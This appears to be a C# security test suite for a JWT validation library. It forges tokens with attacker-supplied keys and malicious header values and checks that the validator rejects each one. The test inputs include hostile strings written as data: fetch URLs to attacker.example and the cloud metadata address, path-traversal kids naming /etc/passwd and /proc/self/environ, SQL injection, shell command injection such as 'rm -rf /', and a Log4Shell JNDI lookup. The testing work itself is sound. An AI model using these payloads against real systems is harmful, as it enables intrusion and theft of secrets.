// SHA-1 appears only to build an x5t thumbprint header, as RFC 7515 §4.1.7 defines it.
#pragma warning disable CA5350
using System.Net;
using System.Net.Sockets;
using System.Numerics;
using System.Reflection;
using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using System.Text.Json;
using System.Text.Json.Nodes;
using Tessera.Algorithms;
using Tessera.Keys;
using Tessera.Tests.Support;
using Tessera.Validation;
using static Tessera.Tests.Attacks.AttackCrypto;
using static Tessera.Tests.Attacks.Kit;
using static Tessera.Validation.ValidationError;

namespace Tessera.Tests.Attacks;

/// <summary>docs/ATTACKS.md section D: key selection, header-supplied keys, key quality.</summary>
internal static partial class AttackCatalog
{
    private static IEnumerable<AttackRow> SectionD() =>
    [
        new("D01", "Embedded jwk (CVE-2018-0114)", "attacker RSA/EC/OKP key in the header never verifies: unknown_key with its own kid, invalid_signature with the real kid or none", _ => D01()),
        new("D02", "Embedded symmetric jwk", "invalid_algorithm for asymmetric validators; unknown_key / invalid_signature for an HMAC validator", _ => D02()),
        new("D03", "jku to an attacker's JWKS", "unknown_key / invalid_signature for every URL form; a loopback listener named in jku gets no connection; the core assembly references no HTTP or socket stack", _ => D03()),
        new("D04", "x5u URL", "as D03 for x5u", _ => D04()),
        new("D05", "x5c attacker certificate chain", "unknown_key / invalid_signature: certificates in the header never supply a key", _ => D05()),
        new("D06", "x5t / x5t#S256 pointing at a real certificate", "invalid_signature: thumbprints do not select keys", _ => D06()),
        new("D07", "kid path traversal", "unknown_key (HMAC validator) and invalid_algorithm (asymmetric validator) for null-keyed traversal kids", _ => D07()),
        new("D08", "kid pointing at a predictable file", "unknown_key / invalid_algorithm with the file's content as MAC key", _ => D08()),
        new("D09", "kid SQL/NoSQL injection", "unknown_key for string injections; malformed for non-string kids", _ => D09()),
        new("D10", "kid command injection", "unknown_key (kid is an opaque dictionary key)", _ => D10()),
        new("D11", "kid oddities", "unknown_key for near-matches; malformed for null, numbers, and a 64 KiB kid (over the size limit)", _ => D11()),
        new("D12", "Unknown kid: JWKS refetch storm", "500 random kids are each unknown_key; the storm leaves the cache as it was (what it held is still served from memory, none of the storm takes room); the service's key source, a KeyRing, hands out the same KeySet while its keys do not change, so the storm refreshes nothing", _ => D12()),
        new("D13", "kid names key A, signature is by key B", "invalid_signature: no try-every-key fallback", _ => D13()),
        new("D14", "Key is for encryption (use:enc or key_ops)", "the key is skipped when the set loads (docs/SPEC.md §1), so its kid is unknown_key; use:sig with key_ops verify is the accepted control", _ => D14()),
        new("D15", "Keyset mixing symmetric and asymmetric keys, or duplicate kid", "KeyException at load", _ => D15()),
        new("D16", "RSA key smaller than 2048 bits", "KeyException at load (JWK, SPKI, PKCS#8, generation)", _ => D16()),
        new("D17", "RSA exponent 1, even, or tiny", "KeyException at load for e = 1, 2, 3, 17, 65535, 65536, 65538", _ => D17()),
        new("D18", "ROCA-vulnerable RSA modulus", "KeyException at load for the Wycheproof ROCA key (tests/vectors/wycheproof/json_web_key_test.json tcId 7)", _ => D18()),
        new("D19", "EC public key not on the curve", "KeyException at load: flipped y, infinity, x ≥ p, wrong lengths", _ => D19()),
        new("D20", "JWK kty mismatch", "KeyException at load; an alg-less RSA entry with no fallback is skipped, never used", _ => D20()),
        new("D21", "HMAC key shorter than the hash output", "KeyException at load: 31/47/63 bytes and empty", _ => D21()),
        new("D22", "Guessable HMAC secret", "common secrets cannot be loaded (all under 32 bytes); tokens MACed with them are invalid_signature", _ => D22()),
        new("D23", "AES key used as an HMAC key", "KeyException for a lone JWK; skipped in a set (docs/SPEC.md §1), so its kid is unknown_key", _ => D23()),
        new("D24", "Private key material in the JWKS", "KeyException at load for d / p / q members", _ => D24()),
        new("D25", "Oversized or unusual verification key", "KeyException at load: RSA over 8192 bits, 1 MB n, JWKS over 1 MiB, e ≥ 2^256", _ => D25()),
        new("D26", "Token signed by a retired key", "unknown_key once the key leaves the set, also for a token remembered by the cache", _ => D26()),
        new("D27", "Token signed by a newly rotated-in key before the cache refreshes", "unknown_key until the caller's one UpdateKeys, accepted right after it (the refusal was not remembered); the refresh keeps the current key's remembered tokens; a KeyRing publishes a newly generated key after one reload, as one new KeySet that it then keeps handing out", _ => D27()),
    ];

    // Another test key's material re-bound to RS256: an attacker key without a slow RSA generation.
    private static readonly Lazy<JwsKey> AttackerRsa = new(() => JwsKey.ImportPem(Key("PS384").ExportPrivateKeyPem(), JwsAlgorithm.RS256));

    private static IEnumerable<AttackCase> D01()
    {
        foreach (string alg in new[] { "RS256", "ES256", "EdDSA" })
        {
            JwsKey real = Key(alg);
            JwsKey attacker = alg == "RS256" ? AttackerRsa.Value : JwsKey.Generate(real.Algorithm);
            string jwk = "\"jwk\":" + PublicOnly(attacker).ExportJwk();
            var v = V(real);
            yield return Refuse(alg + " embedded jwk, attacker's kid", v, Sign(attacker, Header(alg, attacker.KeyId, extra: jwk), Claims()), UnknownKey);
            yield return Refuse(alg + " embedded jwk, real kid", v, Sign(attacker, Header(alg, real.KeyId, extra: jwk), Claims()), InvalidSignature);
            yield return Refuse(alg + " embedded jwk, no kid (one-key set)", v, Sign(attacker, Header(alg, null, extra: jwk), Claims()), InvalidSignature);
        }
    }

    private static IEnumerable<AttackCase> D02()
    {
        byte[] secret = RandomNumberGenerator.GetBytes(32);
        string jwk = "\"jwk\":{\"kty\":\"oct\",\"k\":\"" + Tokens.B64(secret) + "\"}";
        foreach (string alg in new[] { "RS256", "ES256", "EdDSA" })
        {
            JwsKey real = Key(alg);
            yield return Refuse($"HS256 + oct jwk against {alg}, real kid", V(real), MacToken(JwsAlgorithm.HS256, secret, Header("HS256", real.KeyId, extra: jwk), Claims()), InvalidAlgorithm);
        }

        JwsKey hs = Key("HS256");
        yield return Refuse("HMAC validator, real kid", V(hs), MacToken(JwsAlgorithm.HS256, secret, Header("HS256", hs.KeyId, extra: jwk), Claims()), InvalidSignature);
        yield return Refuse("HMAC validator, attacker kid", V(hs), MacToken(JwsAlgorithm.HS256, secret, Header("HS256", "attacker", extra: jwk), Claims()), UnknownKey);
        yield return Refuse("HMAC validator, no kid", V(hs), MacToken(JwsAlgorithm.HS256, secret, Header("HS256", null, extra: jwk), Claims()), InvalidSignature);
    }

    private static IEnumerable<AttackCase> D03() => HeaderUrl("jku");

    private static IEnumerable<AttackCase> D04() => HeaderUrl("x5u");

    private static IEnumerable<AttackCase> HeaderUrl(string member)
    {
        string[] urls =
        [
            "https://attacker.example/jwks.json",
            "https://auth.test@attacker.example/jwks.json",
            "https://auth.test.attacker.example/jwks.json",
            "https://auth.test/redirect?to=https://attacker.example/jwks.json",
            "http://169.254.169.254/latest/meta-data/",
            "file:///etc/passwd",
            "http://auth.test/jwks.json",
            "https://\u0430uth.test/jwks.json",
        ];
        JwsKey real = Key("ES256");
        JwsKey attacker = JwsKey.Generate(JwsAlgorithm.ES256);
        foreach (string url in urls)
        {
            string extra = $"\"{member}\":{Q(url)}";
            yield return Refuse($"{member} {url}, attacker kid", V(real), Sign(attacker, Header("ES256", attacker.KeyId, extra: extra), Claims()), UnknownKey);
            yield return Refuse($"{member} {url}, real kid", V(real), Sign(attacker, Header("ES256", real.KeyId, extra: extra), Claims()), InvalidSignature);
        }

        yield return Property($"a loopback listener named in {member} receives no connection", () =>
        {
            using var listener = new TcpListener(IPAddress.Loopback, 0);
            listener.Start();
            try
            {
                int port = ((IPEndPoint)listener.LocalEndpoint).Port;
                string extra = $"\"{member}\":\"http://127.0.0.1:{port}/jwks.json\"";
                TokenValidator v = V(real, cacheSize: 0);
                Assert.Equal(UnknownKey, v.Validate(Sign(attacker, Header("ES256", attacker.KeyId, extra: extra), Claims())).Error);
                Assert.Equal(InvalidSignature, v.Validate(Sign(attacker, Header("ES256", real.KeyId, extra: extra), Claims())).Error);
                Assert.Equal(None, v.Validate(Sign(real, Header(real, extra: extra), Claims())).Error);

                // Give a background fetch, if there were one, time to connect (a wait, not a timing assertion).
                bool connected = listener.Server.Poll(200_000, SelectMode.SelectRead);
                Assert.False(connected, "the validator connected to the URL in " + member);
            }
            finally
            {
                listener.Stop();
            }
        });
        yield return Property("the core assembly references no HTTP or socket assembly", () =>
        {
            string[] referenced = [.. typeof(TokenValidator).Assembly.GetReferencedAssemblies().Select(a => a.Name!)];
            Assert.DoesNotContain(referenced, n => n.StartsWith("System.Net", StringComparison.Ordinal));
        });
        yield return Accept("control: a genuine token carrying " + member + " is judged on the key set alone", V(real), Sign(real, Header(real, extra: $"\"{member}\":\"https://attacker.example/jwks.json\""), Claims()));
    }

    private static IEnumerable<AttackCase> D05()
    {
        JwsKey real = Key("ES256");
        JwsKey attacker = JwsKey.Generate(JwsAlgorithm.ES256);
        JwsKey attackerCa = JwsKey.Generate(JwsAlgorithm.ES256);
        using X509Certificate2 leaf = SelfSigned(attacker, "CN=auth.test");
        using X509Certificate2 ca = SelfSigned(attackerCa, "CN=Attacker Root CA");
        string one = $"\"x5c\":[\"{Convert.ToBase64String(leaf.RawData)}\"]";
        string chain = $"\"x5c\":[\"{Convert.ToBase64String(leaf.RawData)}\",\"{Convert.ToBase64String(ca.RawData)}\"]";
        foreach ((string name, string x5c) in new[] { ("self-signed", one), ("two-certificate chain", chain) })
        {
            yield return Refuse($"x5c {name}, no kid (one-key set)", V(real), Sign(attacker, Header("ES256", null, extra: x5c), Claims()), InvalidSignature);
            yield return Refuse($"x5c {name}, real kid", V(real), Sign(attacker, Header("ES256", real.KeyId, extra: x5c), Claims()), InvalidSignature);
            yield return Refuse($"x5c {name}, attacker kid", V(real), Sign(attacker, Header("ES256", attacker.KeyId, extra: x5c), Claims()), UnknownKey);
        }
    }

    private static IEnumerable<AttackCase> D06()
    {
        JwsKey real = Key("ES256");
        JwsKey attacker = JwsKey.Generate(JwsAlgorithm.ES256);
        using X509Certificate2 cert = SelfSigned(real, "CN=auth.test");
        string x5t = $"\"x5t\":\"{Tokens.B64(SHA1.HashData(cert.RawData))}\"";
        string x5t256 = $"\"x5t#S256\":\"{Tokens.B64(SHA256.HashData(cert.RawData))}\"";
        foreach ((string name, string extra) in new[] { ("x5t", x5t), ("x5t#S256", x5t256), ("both", x5t + "," + x5t256) })
        {
            yield return Refuse($"{name} of the real certificate, real kid, attacker signature", V(real), Sign(attacker, Header("ES256", real.KeyId, extra: extra), Claims()), InvalidSignature);
            yield return Refuse($"{name} of the real certificate, no kid, attacker signature", V(real), Sign(attacker, Header("ES256", null, extra: extra), Claims()), InvalidSignature);
        }
    }

    private static IEnumerable<AttackCase> D07() => KidAttack(
        ["../../../../../../dev/null", "/dev/null", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fdev%2fnull", "....//....//dev/null"],
        [[], [0]]);

    private static IEnumerable<AttackCase> D08() => KidAttack(
        ["/proc/sys/kernel/randomize_va_space", "/etc/hostname", "/proc/self/environ"],
        ["2\n"u8.ToArray(), "2"u8.ToArray()]);

    private static IEnumerable<AttackCase> D09()
    {
        foreach (AttackCase c in KidAttack(["x' UNION SELECT '1';--", "' OR '1'='1", "1; DROP TABLE keys"], ["1"u8.ToArray()]))
        {
            yield return c;
        }

        JwsKey hs = Key("HS256");
        foreach (string kid in new[] { "{\"$ne\":null}", "[\"x\"]", "{\"$gt\":\"\"}" })
        {
            yield return Refuse("non-string kid " + kid, V(hs), MacToken(JwsAlgorithm.HS256, "1"u8, $"{{\"alg\":\"HS256\",\"typ\":\"at+jwt\",\"kid\":{kid}}}", Claims()), Malformed);
        }
    }

    /// <summary>Attacker-chosen kid with the MAC keyed by what the attacker hopes that kid loads.</summary>
    private static IEnumerable<AttackCase> KidAttack(string[] kids, byte[][] secrets)
    {
        JwsKey hs = Key("HS256");
        JwsKey es = Key("ES256");
        foreach (string kid in kids)
        {
            foreach (byte[] secret in secrets)
            {
                string token = MacToken(JwsAlgorithm.HS256, secret, Header("HS256", kid), Claims());
                string shown = $"kid {kid}, MAC key {Convert.ToHexString(secret)}";
                yield return Refuse(shown + ", HMAC validator", V(hs), token, UnknownKey);
                yield return Refuse(shown + ", ES256 validator", V(es), token, InvalidAlgorithm);
            }
        }
    }

    private static IEnumerable<AttackCase> D10()
    {
        JwsKey hs = Key("HS256");
        JwsKey es = Key("ES256");
        foreach (string kid in new[] { "|sleep 10", "$(id)", "`id`", "; rm -rf /", "&& whoami", "${jndi:ldap://attacker.example/a}" })
        {
            yield return Refuse($"kid {kid}, signed by the real HMAC key", V(hs), Sign(hs, Header("HS256", kid), Claims()), UnknownKey);
            yield return Refuse($"kid {kid}, signed by the real ES256 key", V(es), Sign(es, Header("ES256", kid), Claims()), UnknownKey);
        }
    }

    private static IEnumerable<AttackCase> D11()
    {
        JwsKey es = Key("ES256");
        var v = V(es);
        string real = es.KeyId;
        string[] unknown =
        [
            "",
            new string('k', 300),
            "kid\r\nlevel=error msg=forged",
            real + " ",
            " " + real,
            real + "\u0000",
            string.Equals(real.ToUpperInvariant(), real, StringComparison.Ordinal) ? real.ToLowerInvariant() : real.ToUpperInvariant(),
            real.Replace('A', '\u0391').Replace('a', '\u0430') is var homoglyph && homoglyph != real ? homoglyph : "\u0430" + real[1..],
            real[..^1],
            real + real[^1],
        ];
        foreach (string kid in unknown)
        {
            yield return Refuse($"kid '{Escape(kid.Length > 40 ? kid[..40] + "…" : kid)}', signed by the real key", v, Sign(es, Header("ES256", kid), Claims()), UnknownKey);
        }

        string kidJson = Q(real);
        foreach (string raw in new[] { "null", "123", "true", "[" + kidJson + "]", "{\"kid\":" + kidJson + "}" })
        {
            yield return Refuse("kid " + raw[..Math.Min(raw.Length, 20)], v, Sign(es, $"{{\"alg\":\"ES256\",\"typ\":\"at+jwt\",\"kid\":{raw}}}", Claims()), Malformed);
        }

        yield return Refuse("64 KiB kid (over the size limit)", v, Sign(es, Header("ES256", new string('k', 64 * 1024)), Claims()), Malformed);
        yield return Accept("control: the exact kid", v, Sign(es, Header("ES256", real), Claims()));
    }

    private static IEnumerable<AttackCase> D12()
    {
        const int Capacity = 4;
        JwsKey es = Key("ES256");
        TokenValidator v = V(es, cacheSize: Capacity);
        string held = Tokens.Valid(es);
        TokenClaims? heldClaims = null;
        yield return Property("a genuine token is remembered before the storm", () =>
        {
            heldClaims = v.Validate(held).Claims;
            Assert.NotNull(heldClaims);
            Assert.Same(heldClaims, v.Validate(held).Claims);
        });
        for (int i = 0; i < 500; i++)
        {
            yield return Refuse("random kid #" + i, v, Sign(es, Header("ES256", Guid.NewGuid().ToString("N")), Claims()), UnknownKey);
        }

        yield return Property($"after the storm the held token is still served from memory, and the cache still has room for {Capacity - 1} more", () =>
        {
            Assert.Same(heldClaims, v.Validate(held).Claims);
            for (int i = 1; i < Capacity; i++)
            {
                string token = Tokens.Valid(es);
                ValidationResult first = v.Validate(token);
                Assert.True(first.IsValid);
                Assert.Same(first.Claims, v.Validate(token).Claims);
            }
        });
        yield return Property("a KeyRing hands out the same KeySet on every ask while its keys do not change (the service refreshes its validator only when that instance changes), so the storm refreshes nothing", () =>
        {
            using var temp = new TempDir();
            string path = temp["keys"];
            new KeyDirectory(path).Rotate(JwsAlgorithm.ES256, 2048, DateTimeOffset.FromUnixTimeSeconds(Now));
            var clock = new FakeClock(Now);
            using var ring = new KeyRing(new KeyDirectory(path), clock, TimeSpan.FromHours(1));
            KeySet published = ring.Published;
            JwsKey signer = ring.Active!.Key;
            var follower = new TokenValidator(Validators.Options(published.Algorithms), published, clock);
            for (int i = 0; i < 100; i++)
            {
                Assert.Equal(UnknownKey, follower.Validate(Sign(signer, Header("ES256", Guid.NewGuid().ToString("N")), Claims())).Error);
                Assert.Same(published, ring.Published);
            }

            Assert.True(follower.Validate(Sign(signer, Header(signer), Claims())).IsValid);
        });
        yield return Accept("control: the real kid still works", v, Tokens.Valid(es));
    }

    private static IEnumerable<AttackCase> D13()
    {
        foreach (JwsAlgorithm alg in new[] { JwsAlgorithm.ES256, JwsAlgorithm.EdDSA, JwsAlgorithm.HS256 })
        {
            JwsKey a = Key(alg.Name);
            JwsKey b = JwsKey.Generate(alg);
            var v = V(new KeySet([a, b]));
            yield return Refuse($"{alg.Name}: signed by B, kid of A", v, Sign(b, Header(a), Claims()), InvalidSignature);
            yield return Refuse($"{alg.Name}: signed by A, kid of B", v, Sign(a, Header(b), Claims()), InvalidSignature);
            yield return Refuse($"{alg.Name}: signed by B, no kid (two-key set)", v, Sign(b, Header(alg.Name, null), Claims()), UnknownKey);
            yield return Accept($"{alg.Name} control: signed by B, kid of B", v, Sign(b, Header(b), Claims()));
        }
    }

    private static IEnumerable<AttackCase> D14()
    {
        JwsKey es = Key("ES256");
        JwsKey other = JwsKey.Generate(JwsAlgorithm.ES256);
        var variants = new (string Name, Action<JsonObject> Edit)[]
        {
            ("use enc", j => j["use"] = "enc"),
            ("key_ops [encrypt]", j => { j.Remove("use"); j["key_ops"] = new JsonArray("encrypt"); }),
            ("key_ops [wrapKey, deriveKey]", j => { j.Remove("use"); j["key_ops"] = new JsonArray("wrapKey", "deriveKey"); }),
            ("key_ops []", j => { j.Remove("use"); j["key_ops"] = new JsonArray(); }),
            ("use Sig (case)", j => j["use"] = "Sig"),
        };
        foreach ((string name, Action<JsonObject> edit) in variants)
        {
            JsonObject jwk = JwkOf(es);
            edit(jwk);
            KeySet set = KeySet.FromJwks(JwkSet(jwk, JwkOf(other)));
            yield return Property(name + ": skipped and counted", () =>
            {
                Assert.Equal(1, set.Skipped);
                Assert.False(set.TryFind(es.KeyId, out _));
            });
            yield return Refuse(name + ": genuinely signed token naming it", V(set), Tokens.Valid(es), UnknownKey);
            yield return Refuse(name + ": same token without kid (set has one usable key)", V(set), Sign(es, Header("ES256", null), Claims()), InvalidSignature);
        }

        JsonObject control = JwkOf(es);
        control["key_ops"] = new JsonArray("verify");
        yield return Accept("control: use sig with key_ops [verify]", V(KeySet.FromJwks(JwkSet(control))), Tokens.Valid(es));
    }

    private static IEnumerable<AttackCase> D26()
    {
        JwsKey old = JwsKey.Generate(JwsAlgorithm.ES256);
        JwsKey next = Key("ES256");
        foreach (int cache in new[] { 10_000, 0 })
        {
            TokenValidator v = V(new KeySet([old, next]), cacheSize: cache);
            string oldToken = Tokens.Valid(old);
            string newToken = Tokens.Valid(next);
            yield return Accept($"cache {cache}: old key still published", v, oldToken);
            yield return Refuse($"cache {cache}: old key removed", v, oldToken, UnknownKey, before: () => v.UpdateKeys(new KeySet([next])));
            yield return Accept($"cache {cache}: the new key's token is unaffected", v, newToken);
            yield return Refuse($"cache {cache}: a fresh token from the removed key", v, Tokens.Valid(old), UnknownKey);
        }

        TokenValidator replaced = V(new KeySet([next]));
        string token = Tokens.Valid(next);
        JwsKey sameKidOtherMaterial = WithKid(JwsKey.Generate(JwsAlgorithm.ES256), next.KeyId);
        yield return Accept("remembered token", replaced, token);
        yield return Refuse("after the kid is reused by other material, the remembered token is not trusted", replaced, token, InvalidSignature, before: () => replaced.UpdateKeys(new KeySet([sameKidOtherMaterial])));
    }

    private static IEnumerable<AttackCase> D27()
    {
        JwsKey current = Key("ES256");
        JwsKey rotated = JwsKey.Generate(JwsAlgorithm.ES256);
        TokenValidator v = V(new KeySet([current]));
        string token = Tokens.Valid(rotated);
        string currentToken = Tokens.Valid(current);
        TokenClaims? remembered = null;
        yield return Property("a current-key token is remembered before the refresh", () =>
        {
            remembered = v.Validate(currentToken).Claims;
            Assert.NotNull(remembered);
            Assert.Same(remembered, v.Validate(currentToken).Claims);
        });
        yield return Refuse("new kid before the refresh", v, token, UnknownKey);
        yield return Refuse("new kid before the refresh, again", v, token, UnknownKey);
        yield return Accept("after one UpdateKeys with the new set", v, token, before: () => v.UpdateKeys(new KeySet([current, rotated])));
        yield return Property("the refresh kept the current key's remembered token: still served from memory", () => Assert.Same(remembered, v.Validate(currentToken).Claims));
        yield return Accept("the current key still works", v, Tokens.Valid(current));
        yield return Property("a KeyRing publishes a newly generated key after one reload, as one new KeySet that it then keeps handing out", () =>
        {
            using var temp = new TempDir();
            string path = temp["keys"];
            DateTimeOffset t0 = DateTimeOffset.FromUnixTimeSeconds(Now);
            var directory = new KeyDirectory(path);
            directory.Generate(JwsAlgorithm.ES256, 2048, t0);
            var clock = new FakeClock(Now);
            using var ring = new KeyRing(new KeyDirectory(path), clock, TimeSpan.FromHours(1));
            KeySet before = ring.Published;
            var follower = new TokenValidator(Validators.Options(before.Algorithms), before, clock);

            StoredKey next = directory.Generate(JwsAlgorithm.ES256, 2048, t0);
            string signed = Sign(next.Key, Header(next.Key), Claims());
            Assert.Equal(UnknownKey, follower.Validate(signed).Error);
            Assert.True(ring.Reload());
            KeySet after = ring.Published;

            Assert.NotSame(before, after);
            Assert.True(after.TryFind(next.Metadata.Kid, out _));
            Assert.Same(after, ring.Published);
            follower.UpdateKeys(after);
            Assert.True(follower.Validate(signed).IsValid);
        });
    }

    private static byte[] Base64UrlBytes(JsonNode node) => Tessera.Jose.Base64Url.Decode(node.GetValue<string>())!;

    private static JwsKey TokenWhereKey(Func<JwsKey> make, Func<JwsKey, bool> wanted)
    {
        for (int i = 0; i < 100_000; i++)
        {
            JwsKey key = make();
            if (wanted(key))
            {
                return key;
            }
        }

        throw new InvalidOperationException("no key with the wanted property");
    }
}
